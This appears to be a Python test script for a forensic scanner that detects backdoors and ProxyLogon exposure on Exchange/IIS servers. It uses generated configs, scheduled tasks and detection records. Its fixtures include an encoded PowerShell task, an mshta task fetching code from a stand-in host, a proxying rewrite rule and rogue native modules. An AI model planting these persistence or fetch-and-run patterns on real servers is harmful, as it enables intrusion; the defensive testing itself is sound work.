#!/usr/bin/env python3
"""A server's configuration, programs and tasks through the whole program: what is planted is found,
its harmless twin is not, what is damaged is a gap.

usage: test_configuration.py ASSAY GEN
"""
import json
import os
import pathlib
import subprocess
import sys
import tempfile

sys.path.insert(0, sys.argv[2])
import configuration as gen  # noqa: E402

assay = os.path.abspath(sys.argv[1])
EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15/"
HOST = "C/Windows/System32/inetsrv/config/applicationHost.config"
AGENTS = EXCHANGE + "TransportRoles/Shared/agents.config"
TASK = "C/Windows/System32/Tasks/Updater"
DETECTION = ("C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/"
             "03020100-0504-0706-0809-0A0B0C0D0E0F")
ENCODED = "-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"

# (file, content, the only rule that speaks of it; None: a twin, of which none does)
CASES = [
    (HOST, gen.application_host(), None),
    (HOST, gen.application_host(native='<add name="H" image="C:\\ProgramData\\h.dll" />'),
     "Native module of IIS from a place where none belongs"),
    ("C/inetpub/history/CFGHISTORY_0000000003/applicationHost.config",
     gen.application_host(native='<add name="H" image="C:\\ProgramData\\h.dll" />'),
     "Native module of IIS from a place where none belongs"),
    (HOST, gen.application_host(managed='<add name="S" type="Acme.S, Acme" />'),
     "Managed module that neither ASP.NET nor Exchange ships"),
    (HOST, gen.application_host(handler='<add name="j" path="*.jpg" type="System.Web.UI.PageHandlerFactory" />'),
     "Files of a harmless kind are run as pages"),
    (HOST, gen.application_host(handler='<add name="j" path="*.ashx" type="System.Web.UI.SimpleHandlerFactory" />'),
     None),
    (HOST, gen.application_host(rewrite='<rewrite><rules><rule name="r"><match url=".*" /><action '
                                'type="Rewrite" url="http://203.0.113.7/{R:0}" /></rule></rules></rewrite>'),
     "Requests are passed on to another server"),
    (HOST, gen.application_host(rewrite='<rewrite><rules><rule name="r"><match url=".*" /><action '
                                'type="Redirect" url="https://{HTTP_HOST}/owa" /></rule></rules></rewrite>'),
     None),
    (HOST, gen.application_host(vdir='<virtualDirectory path="/z" physicalPath="C:\\ProgramData\\COM1" />'),
     "Virtual directory that points to an odd place"),
    (AGENTS, gen.agents(), None),
    (AGENTS, gen.agents('<agent name="H" classFactory="H.F" assemblyPath="C:\\ProgramData\\h.dll" '
                        'enabled="true" />'), "Transport agent from a place where none belongs"),
    (TASK, gen.task("%windir%\\system32\\defrag.exe", "-c -h"), None),
    (TASK, gen.task("powershell.exe", ENCODED), "Scheduled task with encoded or hidden commands"),
    (TASK, gen.task("C:\\Windows\\Temp\\a.exe"), "Scheduled task that runs a program from an odd place"),
    (TASK, gen.task("mshta.exe", "http://203.0.113.7/a"), "Scheduled task that runs code from the network"),
    ("C/Windows/System32/inetsrv/h.dll", gen.program(name="h.dll", exports=["RegisterModule"]),
     "Library that is a module of IIS, unsigned"),
    ("C/Windows/System32/inetsrv/h.dll", gen.program(name="h.dll", exports=["RegisterModule"], signed=True),
     None),
    (DETECTION, gen.detection("Backdoor:ASP/Chopper.A", "C:\\inetpub\\wwwroot\\x.aspx"),
     "Defender removed a page from a web folder"),
    (DETECTION, gen.detection("Backdoor:ASP/Chopper.A", "C:\\inetpub\\wwwroot\\x.aspx", status=103),
     "Defender found a page in a web folder and did not remove it"),
    (DETECTION, gen.detection("Virus:DOS/EICAR_Test_File", "C:\\Users\\u\\eicar.com"), None),
]
problems = []


def scan(path, content):
    with tempfile.TemporaryDirectory() as work:
        place = pathlib.Path(work) / path
        place.parent.mkdir(parents=True)
        place.write_bytes(content)
        out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
        return json.loads(out.stdout)


for path, content, rule in CASES:
    told = scan(path, content)
    titles = [f["rule"]["title"] for f in told["findings"]]
    if titles != ([rule] if rule else []) or told["gaps"]:
        problems.append(f"{path}: {titles}, gaps {told['gaps']}, want {rule}")
    torn = scan(path, content[:-30])
    if rule != "Library that is a module of IIS, unsigned" and not path.endswith(".dll") and \
            len(torn["gaps"]) != 1:
        problems.append(f"{path}: torn, and the gaps are {torn['gaps']}")
with tempfile.TemporaryDirectory() as work:
    place = pathlib.Path(work) / "ExSetup.exe"
    place.write_bytes(gen.program())
    event = json.loads(subprocess.run([assay, "dump", place], capture_output=True).stdout)
    if event["derived"].get("PeVersion") != "15.1.2375.7" or \
            event["derived"].get("OriginalFileName") != "ExSetup.exe":
        problems.append(f"the version of ExSetup.exe is {event['derived']}")
# The build that the program's own file names is that of the end of the evidence.
with tempfile.TemporaryDirectory() as work:
    log = pathlib.Path(work) / "C/inetpub/logs/LogFiles/W3SVC1/u_ex210310.log"
    setup = pathlib.Path(work) / EXCHANGE / "Bin/ExSetup.exe"
    for place in (log, setup):
        place.parent.mkdir(parents=True)
    log.write_text("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip "
                   "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n"
                   "2021-03-10 01:02:03 192.0.2.1 GET /owa/ - 443 - 198.51.100.9 x 200\n"
                   "2021-03-10 02:02:03 192.0.2.1 GET /owa/ - 443 - 198.51.100.9 x 200\n")
    setup.write_bytes(gen.program(version=(15, 1, 2106, 2)))
    out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
    campaign = next(c for c in json.loads(out.stdout)["hosts"][0]["campaigns"] if c["id"] == "exchange-proxylogon")
    told = [(i["state"], i["build"], i["from"][:19]) for i in campaign["exposure"]["intervals"]]
    if told != [("vulnerable", "15.1.2106.2", "2021-03-10T02:02:03")]:
        problems.append(f"builds told by ExSetup.exe: {told}")
# IIS's backups are told as a history: one module came and went, another came and is there, a folder
# was there from the first one on; the mitigation was set and taken back.
MODULE = '<add name="H" image="C:\\ProgramData\\h.dll" />'
LATER = '<add name="K" image="C:\\ProgramData\\k.dll" />'
FOLDER = '<virtualDirectory path="/z" physicalPath="C:\\ProgramData\\COM1" />'
RULE = ('<rewrite><rules><rule name="X-BEResource Abort - inbound"><match url=".*" /><action '
        'type="AbortRequest" /></rule></rules></rewrite>')
BACKUP = "C/inetpub/history/CFGHISTORY_%010d/applicationHost.config"
VERSIONS = [ # (file, minute, what it has)
    (BACKUP % 7, 10, dict(vdir=FOLDER)),
    (BACKUP % 8, 20, dict(vdir=FOLDER, native=MODULE)),
    (BACKUP % 9, 30, dict(vdir=FOLDER, native=MODULE, rewrite=RULE)),
    (BACKUP % 10, 40, dict(vdir=FOLDER, native=LATER)),
    (HOST, 40, dict(vdir=FOLDER, native=LATER)),
]


def history(versions, dated=True):
    with tempfile.TemporaryDirectory() as work:
        for path, minute, planted in versions:
            place = pathlib.Path(work) / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(gen.application_host(**planted))
            when = 1614800000 + 60 * minute
            os.utime(place, (when, when) if dated else (1614800000, 1614800000))
        out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
        return json.loads(out.stdout)


def facts(told):
    return sorted((f["axis"], f["state"], (f["time"] or "-" * 19)[14:16], f["what"][:24])
                  for h in told["hosts"] for f in h["facts"] if f["axis"] != "context")


def want(name, told, expected):
    if told != sorted(expected):
        problems.append(f"{name}: {told}")


TAKEN = "taken out of IIS's confi"
want("history", facts(history(VERSIONS)), [
    ("backdoor", "present", "43", "web folder /z of \"Defaul"),
    ("backdoor", "written", "53", "native module H of IIS i"),
    ("backdoor", "removed", "13", TAKEN),
    ("backdoor", "present", "13", "native module K of IIS i"),
    ("backdoor", "written", "13", "native module K of IIS i"),
    ("exposure", "mitigated", "03", "rewrite rule against the"),
    ("exposure", "unmitigated", "13", TAKEN)])
told = history(VERSIONS)
items = {i["where"]: (i["presence"]["state"], i["presence"]["at"], i["written"])
         for c in told["hosts"][0]["campaigns"] for i in c["backdoor"].get("items", [])}
if items != {"C:\\ProgramData\\COM1": ("present", None, None),
             "C:\\ProgramData\\h.dll": ("removed", "2021-03-03T20:13:20Z", "2021-03-03T19:53:20Z"),
             "C:\\ProgramData\\k.dll": ("present", None, "2021-03-03T20:13:20Z")}:
    problems.append(f"history: {items}")
# All that decides about requests is compared, whether a rule speaks of it or not.
CHANGED = "IIS's configuration was changed between two of its versions"
QUIET = "Logging or a filter of requests was changed in IIS's configuration"
KNOWN = '<add name="RewriteModule" image="%windir%\\System32\\inetsrv\\rewrite.dll" />'
LOGS = '<add name="HttpLoggingModule" image="%windir%\\System32\\inetsrv\\loghttp.dll" />'


def changes(told):
    """Where changes are told, and what of them the facts say."""
    return ([(f["where"]["path"].split("/")[-2], f["rule"]["title"]) for f in told["findings"]
             if f["rule"]["title"] in (CHANGED, QUIET)],
            sorted(f["what"].split("configuration, ")[1] for h in told["hosts"] for f in h["facts"] if "configuration, " in f["what"]))


got = changes(history([(BACKUP % 8, 10, dict(native=LOGS)), (BACKUP % 9, 20, dict(native=LOGS + KNOWN)), (BACKUP % 10, 30, dict(native=KNOWN)),
                       (HOST, 30, dict(native=KNOWN))]))
if got[0] != [("CFGHISTORY_0000000009", CHANGED), ("CFGHISTORY_0000000010", CHANGED), ("CFGHISTORY_0000000010", QUIET)]:
    problems.append(f"changes: {got}")
wanted = ["native modules added between CFGHISTORY_0000000008 of 2021-03-03T19:43:20Z and CFGHISTORY_0000000009 of 2021-03-03T19:53:20Z (1): "
          "add name=RewriteModule image=%windir%\\System32\\inetsrv\\rewrite.dll",
          "native modules removed between CFGHISTORY_0000000009 of 2021-03-03T19:53:20Z and CFGHISTORY_0000000010 of 2021-03-03T20:03:20Z (1): "
          "add name=HttpLoggingModule image=%windir%\\System32\\inetsrv\\loghttp.dll"]
if [w for w in wanted if not any(w in g for g in got[1])]:
    problems.append(f"changes, their sentences: {got[1]}")
# A version that was not read whole shows no absence: what is behind it is compared with what is before.
with tempfile.TemporaryDirectory() as work:
    for number, content in ((8, gen.application_host(native=LOGS)), (9, gen.application_host()[:-40]), (10, gen.application_host(native=LOGS + KNOWN))):
        place = pathlib.Path(work) / (BACKUP % number)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
        os.utime(place, (1614800000, 1614800000))
    out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
    got = changes(json.loads(out.stdout))
    if got[0] != [("CFGHISTORY_0000000010", CHANGED)] or "between CFGHISTORY_0000000008 and CFGHISTORY_0000000010 (1)" not in got[1][0]:
        problems.append(f"changes beside a torn version: {got}")
# Setup writes the same in another order, and comments: nothing changed.
got = changes(history([(BACKUP % 8, 10, dict(native=LOGS + KNOWN)), (HOST, 20, dict(native=KNOWN + "<!-- x -->" + LOGS))]))
if got != ([], []):
    problems.append(f"the same in another order: {got}")
# Where the collection gave all files its own time, the numbers still tell what came after what.
undated = [f for f in facts(history(VERSIONS, dated=False)) if f[0] == "backdoor"]
want("history without times", undated, [
    ("backdoor", "present", "--", "web folder /z of \"Defaul"),
    ("backdoor", "written", "--", "native module H of IIS i"),
    ("backdoor", "removed", "--", TAKEN),
    ("backdoor", "present", "--", "native module K of IIS i"),
    ("backdoor", "written", "--", "native module K of IIS i")])
# A backup alone proves what was there, not what is.
want("one backup", facts(history(VERSIONS[1:2])), [
    ("backdoor", "written", "53", "native module H of IIS i"),
    ("backdoor", "written", "53", "web folder /z of \"Defaul")])
for problem in problems:
    print("FAILED:", problem)
print(f"{2 * len(CASES) + 6} checks, {len(problems)} problems")
sys.exit(1 if problems else 0)
